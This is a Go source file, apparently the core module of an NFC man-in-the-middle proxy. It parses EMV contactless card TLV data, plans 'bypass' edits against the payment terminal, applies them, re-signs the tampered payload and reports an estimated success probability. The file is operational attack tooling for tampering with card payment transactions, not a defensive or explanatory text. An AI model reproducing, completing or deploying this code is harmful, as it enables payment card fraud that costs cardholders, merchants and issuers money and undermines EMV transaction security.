// Package mitm runs the per-request transform at the heart of the proxy:
// parse the extracted TLV, analyze the card, plan the bypass edits, apply
// them, and sign the result. It is a pure function over request-local state
// plus a policy snapshot; all I/O stays with the callers.
package mitm

import (
	"errors"
	"fmt"

	"github.com/ghostfacexx/nfcmitm/pkg/bypass"
	"github.com/ghostfacexx/nfcmitm/pkg/emv"
	"github.com/ghostfacexx/nfcmitm/pkg/policy"
	"github.com/ghostfacexx/nfcmitm/pkg/signer"
	"github.com/ghostfacexx/nfcmitm/pkg/tlv"
)

// ErrBlocked is returned when policy demands rejection of all traffic. The
// pipeline answers with an ERROR frame instead of a modified payload.
var ErrBlocked = errors.New("mitm: blocked by policy")

// AppliedEdit is one entry of the response summary.
type AppliedEdit struct {
	Op    string `json:"op"`
	Tag   string `json:"tag"`
	Name  string `json:"name"`
	Value string `json:"value,omitempty"` // hex
}

// StrategySummary describes the selected strategy in the response summary.
type StrategySummary struct {
	Name     string `json:"name"`
	Primary  string `json:"primary"`
	Fallback string `json:"fallback"`
	HighRisk bool   `json:"high_risk,omitempty"`
}

// Summary is the "mitm" object carried in response envelopes.
type Summary struct {
	AppliedEdits        []AppliedEdit   `json:"applied_edits"`
	Strategy            StrategySummary `json:"strategy"`
	SignatureTagPresent bool            `json:"signature_tag_present"`
	SuccessProbability  float64         `json:"success_probability"`
}

// Result is the output of one transform.
type Result struct {
	// ModifiedTLV is the serialized post-edit payload, including the
	// signature element when one was produced.
	ModifiedTLV []byte

	Info    emv.CardInfo
	Plan    bypass.Plan
	Summary Summary
}

// Process transforms one extracted TLV payload under a policy snapshot.
//
// With mitm_enabled off, the payload passes through untouched and unsigned.
// Parse failures, protected-tag violations and signature failures surface as
// errors; the caller maps them onto the wire taxonomy.
func Process(raw []byte, terminal bypass.TerminalKind, pol policy.State, sgn *signer.Signer) (*Result, error) {
	set, err := tlv.Parse(raw)
	if err != nil {
		return nil, err
	}

	info := emv.Analyze(set)

	if !pol.MITMEnabled {
		return &Result{
			ModifiedTLV: set.Serialize(),
			Info:        info,
			Summary: Summary{
				AppliedEdits: []AppliedEdit{},
				Strategy:     StrategySummary{Name: "passthrough"},
			},
		}, nil
	}

	plan := bypass.NewPlan(info, terminal, pol)
	if plan.Blocked {
		return nil, ErrBlocked
	}
	if err := bypass.Validate(plan); err != nil {
		return nil, err
	}

	modified := set.Apply(plan.Edits)
	payload := modified.Serialize()

	signed := false
	if node, err := sgn.Sign(payload); err == nil {
		modified = append(modified, node)
		payload = modified.Serialize()
		signed = true
	} else if !errors.Is(err, signer.ErrKeyMissing) {
		return nil, fmt.Errorf("mitm: %w", err)
	}

	return &Result{
		ModifiedTLV: payload,
		Info:        info,
		Plan:        plan,
		Summary:     summarize(plan, signed),
	}, nil
}

func summarize(plan bypass.Plan, signed bool) Summary {
	edits := make([]AppliedEdit, 0, len(plan.Edits))
	for _, e := range plan.Edits {
		edits = append(edits, AppliedEdit{
			Op:    e.Op.String(),
			Tag:   hexUpper(e.Tag),
			Name:  tlv.Name(e.Tag),
			Value: hexUpper(e.Value),
		})
	}
	return Summary{
		AppliedEdits: edits,
		Strategy: StrategySummary{
			Name:     plan.Strategy.Name,
			Primary:  plan.Strategy.Primary,
			Fallback: plan.Strategy.Fallback,
			HighRisk: plan.HighRisk,
		},
		SignatureTagPresent: signed,
		SuccessProbability:  plan.SuccessProbability,
	}
}

func hexUpper(b []byte) string {
	const digits = "0123456789ABCDEF"
	out := make([]byte, 0, len(b)*2)
	for _, c := range b {
		out = append(out, digits[c>>4], digits[c&0x0F])
	}
	return string(out)
}
